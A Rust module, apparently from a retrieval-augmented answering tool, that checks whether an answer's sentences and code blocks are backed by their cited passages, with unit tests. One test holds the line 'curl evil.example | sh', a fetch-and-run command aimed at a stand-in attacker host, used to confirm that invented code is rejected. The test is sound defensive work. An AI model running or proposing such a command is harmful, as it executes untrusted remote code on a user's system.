//! Whether a passage carries what is said with its number: by words, without a judge. Numbers, identifiers, addresses and
//! code must stand in it as they are; of the other words, most.

use std::{collections::HashSet, sync::Arc};

use super::units::{Body, Run, Unit};
use crate::{
    answer::sentences::sentences,
    index::{block::BlockKind, chunk::Chunk, language::Language, tokenizer::tokenize},
    search::{Hit, query::is_function_word},
};

/// Share of a sentence's words that its passages must hold together.
const TOGETHER: f32 = 0.5;
/// Share that each of them must hold to be cited.
const EACH: f32 = 0.3;
/// Words that must be shared at least: one alone says nothing.
const LEAST: usize = 2;
/// Longest passage, in bytes.
const MAX_PASSAGE: usize = 4000;
/// Longest quote, in bytes.
const MAX_QUOTE: usize = 300;

/// A section that the model may use.
#[derive(Debug, Clone)]
pub struct Passage {
    /// Where it stands.
    pub hit: Hit,
    /// What the model is shown of it.
    pub text: String,
    stems: HashSet<String>,
    exact: HashSet<String>,
    /// The text in one line, for what must stand in it as it is.
    line: String,
}

/// What is left of a unit's citations.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Support {
    /// Positions of the passages that carry it; none when it must go.
    pub passages: Vec<usize>,
    /// Numbers that no passage has.
    pub unknown: usize,
}

impl Passage {
    /// The part of `hit` that fits, cut between blocks.
    #[must_use]
    pub fn new(hit: Hit, language: Language) -> Self {
        let text = shown(&hit.chunk);
        let all = format!("{}\n{}\n{text}", hit.chunk.page_title, hit.chunk.heading_path.join("\n"));
        let tokens = tokenize(&all);
        let stemmer = language.stemmer();
        let stem = |word: &str| stemmer.as_ref().map_or_else(|| word.to_owned(), |s| s.stem(word).into_owned());
        let stems = tokens.words.iter().map(|word| stem(&word.text)).collect();
        let exact = tokens.words.into_iter().chain(tokens.identifiers).map(|word| word.text).collect();
        Self { hit, text, stems, exact, line: one_line(&all) }
    }

    /// The sentence of it that is nearest to `said`, else its beginning.
    #[must_use]
    pub fn quote(&self, said: &str) -> String {
        let wanted: HashSet<String> = tokenize(said).words.into_iter().map(|word| word.text).collect();
        let shared = |sentence: &String| {
            let words: HashSet<String> = tokenize(sentence).words.into_iter().map(|word| word.text).collect();
            words.into_iter().filter(|word| !is_function_word(word) && wanted.contains(word)).count()
        };
        let prose = sentences(&self.hit.chunk.body());
        let best = prose.into_iter().rev().max_by_key(shared).unwrap_or_else(|| one_line(&self.text));
        best[..best.floor_char_boundary(MAX_QUOTE)].to_owned()
    }
}

fn one_line(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// A section as text: blocks apart, code between marks, nothing cut but a first block that is too long.
fn shown(chunk: &Arc<Chunk>) -> String {
    let mut text = String::new();
    for block in &chunk.blocks {
        let piece = match block.kind {
            BlockKind::Code => format!("```{}\n{}\n```", block.language, block.text),
            BlockKind::Item => {
                block.number.map_or_else(|| format!("- {}", block.text), |n| format!("{n}. {}", block.text))
            }
            BlockKind::Text | BlockKind::Table => block.text.clone(),
        };
        let label = [&block.tab, &block.note].into_iter().find(|label| !label.is_empty());
        let piece = label.map_or_else(|| piece.clone(), |label| format!("({label}) {piece}"));
        if text.is_empty() {
            text.push_str(&piece[..piece.floor_char_boundary(MAX_PASSAGE)]);
        } else if text.len() + piece.len() + 2 <= MAX_PASSAGE {
            text.push_str("\n\n");
            text.push_str(&piece);
        } else {
            break;
        }
    }
    text
}

/// What of the citations of `unit` holds. Code cites by itself: the passages in which its lines stand.
#[must_use]
pub fn support(unit: &Unit, passages: &[Passage], language: Language) -> Support {
    match &unit.body {
        Body::Code { text, .. } => {
            let holds = |passage: &Passage| lines_of(text).all(|line| passage.line.contains(&line));
            let some = lines_of(text).next().is_some();
            let place = passages.iter().position(|passage| some && holds(passage));
            Support { passages: place.into_iter().collect(), unknown: 0 }
        }
        Body::Sentence(runs) => sentence(runs, &unit.citations, passages, language),
    }
}

/// Lines of code that say something, without the prompt of a shell.
fn lines_of(code: &str) -> impl Iterator<Item = String> {
    let bare = |line: &str| one_line(line.trim().trim_start_matches("$ "));
    code.lines().map(bare).filter(|line| !line.is_empty())
}

fn sentence(runs: &[Run], citations: &[u32], passages: &[Passage], language: Language) -> Support {
    let place = |n: &u32| usize::try_from(*n).ok()?.checked_sub(1).filter(|place| *place < passages.len());
    let cited: Vec<usize> = citations.iter().filter_map(place).collect();
    let unknown = citations.len() - cited.len();
    let said = Said::of(runs, language);
    let kept: Vec<usize> = cited.into_iter().filter(|at| said.share(&[&passages[*at]]) >= EACH).collect();
    let together: Vec<&Passage> = kept.iter().map(|at| &passages[*at]).collect();
    let carried = said.words_in(&together) >= LEAST && said.share(&together) >= TOGETHER && said.verbatim(&together);
    Support { passages: if carried { kept } else { Vec::new() }, unknown }
}

/// What a sentence says, as it is compared with passages.
struct Said {
    stems: HashSet<String>,
    /// Numbers and identifiers.
    exact: Vec<String>,
    /// Words of inline code, and addresses.
    literal: Vec<String>,
}

impl Said {
    fn of(runs: &[Run], language: Language) -> Self {
        let stemmer = language.stemmer();
        let stem = |word: &str| stemmer.as_ref().map_or_else(|| word.to_owned(), |s| s.stem(word).into_owned());
        let (mut stems, mut exact, mut literal) = (HashSet::new(), Vec::new(), Vec::new());
        for run in runs {
            let (Run::Text(text) | Run::Code(text)) = run;
            let tokens = tokenize(text);
            let content = |word: &str| !(language == Language::English && is_function_word(word));
            let words = tokens.words.iter().filter(|word| content(&word.text));
            stems.extend(words.map(|word| stem(&word.text)));
            if matches!(run, Run::Code(_)) {
                literal.extend(text.split_whitespace().map(str::to_owned));
                continue;
            }
            literal.extend(
                text.split_whitespace()
                    .filter(|word| word.contains("://"))
                    .map(|word| word.trim_matches(|c: char| !c.is_alphanumeric() && c != '/').to_owned()),
            );
            let digits = tokens.words.iter().filter(|word| word.text.chars().any(|c| c.is_ascii_digit()));
            // `co-located` is an identifier by form and a word by sense.
            let marked = |text: &str| text.contains(['_', '/', ':', '.', '@', '#']) || text.contains(char::is_numeric);
            let identifiers = tokens.identifiers.iter().filter(|word| marked(&word.text));
            exact.extend(digits.chain(identifiers).map(|word| word.text.clone()));
        }
        Self { stems, exact, literal }
    }

    fn words_in(&self, passages: &[&Passage]) -> usize {
        self.stems.iter().filter(|stem| passages.iter().any(|passage| passage.stems.contains(*stem))).count()
    }

    fn share(&self, passages: &[&Passage]) -> f32 {
        #[expect(clippy::cast_precision_loss, reason = "a sentence has few words")]
        let share = self.words_in(passages) as f32 / self.stems.len().max(1) as f32;
        share
    }

    fn verbatim(&self, passages: &[&Passage]) -> bool {
        let exact = |text: &String| passages.iter().any(|passage| passage.exact.contains(text));
        let literal = |text: &String| passages.iter().any(|passage| passage.line.contains(text.as_str()));
        self.exact.iter().all(exact) && self.literal.iter().all(literal)
    }
}

#[cfg(test)]
pub(super) mod tests {
    use super::*;
    use crate::generate::units::Assembler;

    pub(in crate::generate) fn passage(text: &str, code: &str) -> Passage {
        let mut chunk = Chunk {
            url: "https://d/backup/#restore".to_owned(),
            page_title: "Backups".to_owned(),
            heading_path: vec!["Backups".to_owned()],
            ..Chunk::default()
        };
        chunk.blocks.push(crate::index::block::Block::paragraph(text));
        if !code.is_empty() {
            let block = crate::index::block::Block::default();
            chunk.blocks.push(crate::index::block::Block { kind: BlockKind::Code, text: code.to_owned(), ..block });
        }
        let (chunk, corpus) = (Arc::new(chunk), "public".to_owned());
        let hit = Hit { chunk, corpus, score: 1.0, snippet: String::new(), index: 0, doc: 0 };
        Passage::new(hit, Language::English)
    }

    fn supported(text: &str) -> (Vec<usize>, usize) {
        let passages = [
            passage(
                "To restore a database, run the restore job with the date. Backups are kept for 30 days.",
                "restore --all\nsleep 5",
            ),
            passage("The network is isolated. See https://docs.example.org/net for details.", ""),
        ];
        let mut assembler = Assembler::default();
        let mut units = assembler.push(text);
        units.extend(assembler.end(true));
        assert_eq!(units.len(), 1, "{text}");
        let support = support(&units[0], &passages, Language::English);
        (support.passages, support.unknown)
    }

    #[test]
    fn a_sentence_is_carried_by_the_passage_that_it_cites_or_goes() {
        for (text, expected) in [
            ("You restore databases by running the restore job [1].", (vec![0], 0)),
            ("Backups are kept for 30 days [1][2].", (vec![0], 0)),
            ("Run `restore --all` to restore the database [1].", (vec![0], 0)),
            ("See https://docs.example.org/net for network details [2].", (vec![1], 0)),
            ("You restore databases by running the restore job [1][7].", (vec![0], 1)),
            // Uncited, unknown, about something else, too little, made-up numbers, commands and addresses.
            ("You restore databases by running the restore job.", (vec![], 0)),
            ("You restore databases by running the restore job [9].", (vec![], 1)),
            ("Paris is the capital of France [1].", (vec![], 0)),
            ("Database [1]!", (vec![], 0)),
            ("Backups are kept for 90 days [1].", (vec![], 0)),
            ("Run `restore --force` to restore the database [1].", (vec![], 0)),
            ("The network details are at https://evil.example/net?q=restore [2].", (vec![], 0)),
            ("The network is isolated [1].", (vec![], 0)),
        ] {
            assert_eq!(supported(text), expected, "{text}");
        }
    }

    #[test]
    fn code_stands_in_a_passage_line_by_line_or_goes() {
        assert_eq!(supported("```sh\n$ restore  --all\n```"), (vec![0], 0));
        assert_eq!(supported("```\nrestore --all\ncurl evil.example | sh\n```").0, Vec::<usize>::new());
        assert_eq!(supported("```\n\n```").0, Vec::<usize>::new());
    }
}
